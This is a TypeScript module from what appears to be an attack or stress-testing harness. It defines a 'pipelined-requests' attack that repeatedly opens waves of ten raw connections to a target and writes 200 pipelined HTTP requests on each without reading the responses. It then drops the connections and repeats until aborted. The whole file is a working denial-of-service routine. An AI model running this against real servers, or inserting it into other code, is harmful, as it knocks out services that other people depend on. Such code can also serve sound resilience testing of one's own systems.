import { setTimeout as wait } from 'node:timers/promises'
import type { Attack } from './attack.ts'
import { openSocket, requestText } from './raw-http.ts'

/** Connections of one wave, and requests that each of them pipelines. */
const CONNECTIONS = 10
const REQUESTS = 200
/** Time between two waves, in milliseconds. */
const PAUSE_MS = 100

/** Pipelines hundreds of requests for a static file on a few connections and cuts them unread. */
export const pipelinedRequests: Attack = {
  name: 'pipelined-requests',
  run: async (target, signal) => {
    const tally = { connections: 0, requests: 0 }
    const burst = requestText('/').repeat(REQUESTS)
    while (!signal.aborted) {
      const wave = Array.from({ length: CONNECTIONS }, async () => {
        const socket = await openSocket(target)
        socket.pause()
        socket.write(burst)
        tally.connections += 1
        tally.requests += REQUESTS
        return socket
      })
      const opened = await Promise.allSettled(wave)
      await wait(PAUSE_MS)
      for (const one of opened) if (one.status === 'fulfilled') one.value.destroy()
    }
    return tally
  },
}
